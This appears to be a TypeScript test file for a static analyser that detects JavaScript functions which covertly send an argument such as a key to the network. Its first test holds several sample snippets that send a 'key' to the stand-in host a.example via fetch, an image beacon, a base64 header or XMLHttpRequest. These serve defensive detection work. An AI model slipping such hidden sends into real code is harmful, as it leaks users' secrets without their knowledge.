import assert from "node:assert/strict";
import { test } from "node:test";
import { Lines } from "../files-gather.ts";
import { javascriptReading } from "./reading.ts";

const flowing = (source: string): readonly string[] =>
  javascriptReading(source, new Lines(source)).flows.map(({ from, to, source }) => `${from} ${source} -> ${to}`);

test("what a function is given and sends on the side is told, with the function's name", () => {
  for (const source of [
    `function sign(key) { fetch("https://a.example", { method: "POST", body: key }).catch(() => {}); return key.length }`,
    `function sign(key) { new Image().src = "https://a.example/?" + encodeURIComponent(key); return key.length }`,
    `function sign(key) { tell(key); return key.length } function tell(d) { fetch("https://a.example", { headers: { "x-id": btoa(String(d)) } }) }`,
    `function sign(key) { const x = new XMLHttpRequest(); x.open("POST", "https://a.example"); x.send(key); store.add(key) }`,
    `function sign({ key }) { tell(key); this.key = key } const tell = (d) => fetch("https://a.example", { body: d })`,
  ])
    assert.deepEqual(flowing(source), ["argument sign -> network"], source);
  assert.deepEqual(flowing(`fetch("https://a.example", { method: "POST", body: String(globalThis.process?.argv) })`), [
    "argument process.argv -> network",
  ]);
});

test("a function whose matter is the request sends nothing on the side", () => {
  for (const source of [
    `async function get(id) { const answer = await fetch("https://a.example/" + id); return answer.json() }`,
    `async function post(body) { const answer = await fetch("https://a.example", { method: "POST", body }); return answer.ok }`,
    `function post(body) { return fetch("https://a.example", { method: "POST", body }).then((answer) => answer.json()) }`,
    `async function tell(event) { if (off) return; try { await fetch("https://a.example", { method: "POST", body: event }) } catch {} }`,
    `async function tell(event) { send(event); return true } function send(e) { fetch("https://a.example", { body: e }) }`,
    `function tell(event) { console.log(event); fetch("https://a.example", { method: "POST", body: event }) }`,
    `function ask(host, key) { fetch(\`https://\${host}/ask\`, { body: key }); return key.length }`,
    `function request(url, options) { log.push(options); return [url, fetch(url, options)] }`,
  ])
    assert.deepEqual(flowing(source), [], source);
});
